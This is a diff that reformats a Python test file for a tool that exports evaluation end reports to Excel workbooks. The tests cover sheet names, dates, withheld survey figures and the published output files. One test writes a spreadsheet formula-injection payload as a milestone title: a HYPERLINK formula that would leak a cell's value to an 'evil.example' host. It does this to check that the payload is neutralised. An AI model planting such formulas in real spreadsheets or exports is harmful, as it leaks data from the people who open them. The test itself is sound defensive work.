@@ -27,7 +27,9 @@ EXAMPLE, PERIOD = "helhedsplan-norrevang", "2022-2025"
 def sections(report: Report) -> list[doc.Section]:
     """An end report's sections, made in this process as its notebook makes them (without the evaluator's own
     notebook sections, which the report displays after its criteria)."""
-    return [part(report) for part in (summary_section, criteria_section, survey_section, milestones_section, about_section)]
+    return [
+        part(report) for part in (summary_section, criteria_section, survey_section, milestones_section, about_section)
+    ]
 
 
 def about(language: str) -> About:
@@ -59,7 +61,9 @@ def danish() -> Report:
     return Report.open(EXAMPLE)  # anew for each test: a report numbers its tables as it makes them
 
 
-@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", "=HYPERLINK(\"http://x.example\")"])
+@pytest.mark.parametrize(
+    "text", ["=1+1", "+1", "-1", "@SUM(A1:A2)", "\t=1+1", "\r=1+1", '=HYPERLINK("http://x.example")']
+)
 def test_text_a_spreadsheet_would_run_gets_a_leading_apostrophe(text):
     assert neutralise(text) == "'" + text
 
@@ -73,7 +77,9 @@ def test_a_milestone_titled_as_a_formula_comes_out_as_inert_text_in_the_workbook
     milestones = example_copy / "milestones.csv"
     formula = '=HYPERLINK("http://evil.example/?leak="&A1,"Klikk her")'
     csv_title = '"' + formula.replace('"', '""') + '"'
-    milestones.write_text(milestones.read_text(encoding="utf-8") + f"M99,{csv_title},,Nettverk,2016-06-01,,\n", encoding="utf-8")
+    milestones.write_text(
+        milestones.read_text(encoding="utf-8") + f"M99,{csv_title},,Nettverk,2016-06-01,,\n", encoding="utf-8"
+    )
     parts = sections(Report(load_project(example_copy)))
     sheet = sheet_starting(book_of(parts, "nb"), "Tabell 12 Milepæler i fasen Ne")
     (cell,) = [row[0] for row in sheet.iter_rows(min_row=2) if formula in str(row[0].value)]
@@ -125,7 +131,14 @@ def test_criteria_sheet_has_the_report_headings_numbers_and_percentages(danish):
 
 def test_milestone_sheets_have_real_dates_and_slippage(danish):
     sheet = sheet_starting(open_book(danish), "Tabel 7 Milepæle i fasen Ops")
-    assert [c.value for c in sheet[1]] == ["Milepæl", "Planlagt", "Gennemført", "Forsinkelse (dage)", "Prognose", "Status"]
+    assert [c.value for c in sheet[1]] == [
+        "Milepæl",
+        "Planlagt",
+        "Gennemført",
+        "Forsinkelse (dage)",
+        "Prognose",
+        "Status",
+    ]
     first = next(sheet.iter_rows(min_row=2))  # planned 2022-01-15, done a day early
     assert first[1].value == datetime(2022, 1, 15) and first[1].is_date and first[1].number_format == "dd.mm.yyyy"
     assert first[2].value == datetime(2022, 1, 14) and first[2].is_date
@@ -137,7 +150,13 @@ def test_milestone_sheets_have_real_dates_and_slippage(danish):
 
 def test_a_withheld_figure_is_an_empty_cell_with_a_note_saying_why():
     t = danish_words()
-    parts = one_table(["Spørgsmål", "Svar (n)", "Andel"], [["Tryghed", withheld("count", "For få svar", t("suppressed")), withheld("share", "For få svar")], ["Naboer", count(t, 12), share(t, 0.5)]])
+    parts = one_table(
+        ["Spørgsmål", "Svar (n)", "Andel"],
+        [
+            ["Tryghed", withheld("count", "For få svar", t("suppressed")), withheld("share", "For få svar")],
+            ["Naboer", count(t, 12), share(t, 0.5)],
+        ],
+    )
     sheet = book_of(parts).worksheets[1]
     assert [sheet["B2"].value, sheet["C2"].value] == [None, None]
     assert sheet["B2"].comment.text == sheet["C2"].comment.text == "For få svar"
@@ -158,8 +177,14 @@ def test_the_first_sheet_says_what_the_workbook_is_in_the_reports_language():
     about_sheet = book.worksheets[0]
     assert about_sheet.title == "Om rapporten"
     facts = {row[0]: row[1] for row in about_sheet.iter_rows(max_row=8, values_only=True)}
-    assert facts["Laget (UTC)"] == datetime(2026, 3, 1, 9, 30) and facts["Inndata (SHA-256)"] == "ab" * 32 and facts["Versjon"] == "evalreport 1.2.3"
-    assert all(name.startswith("Tabell ") for name in book.sheetnames[1:]) and all(len(name) <= 31 for name in book.sheetnames)
+    assert (
+        facts["Laget (UTC)"] == datetime(2026, 3, 1, 9, 30)
+        and facts["Inndata (SHA-256)"] == "ab" * 32
+        and facts["Versjon"] == "evalreport 1.2.3"
+    )
+    assert all(name.startswith("Tabell ") for name in book.sheetnames[1:]) and all(
+        len(name) <= 31 for name in book.sheetnames
+    )
     listed = [row[0].value for row in about_sheet.iter_rows() if row[0].hyperlink]
     assert listed == book.sheetnames[1:]
 
@@ -169,7 +194,11 @@ def test_a_run_publishes_the_workbook_and_the_figures_beside_the_report(tmp_path
     folder = tmp_path / EXAMPLE / PERIOD
     book = load_workbook(folder / "end_report.xlsx")
     assert book.sheetnames[0] == "Om rapporten" and book.sheetnames[1].startswith("Tabel 1 ")
-    assert (folder / "end_report.figures.csv").read_text(encoding="utf-8").startswith("section,table,row,column,value,unit\n")
+    assert (
+        (folder / "end_report.figures.csv")
+        .read_text(encoding="utf-8")
+        .startswith("section,table,row,column,value,unit\n")
+    )
     outputs = json.loads((folder / "run.json").read_text())["end_report"]["outputs"]
     assert {"end_report.xlsx", "end_report.figures.csv", "end_report.results.json"} <= set(outputs)
     assert not list(folder.glob(".*.tmp")), "written through a temporary file, renamed into place"
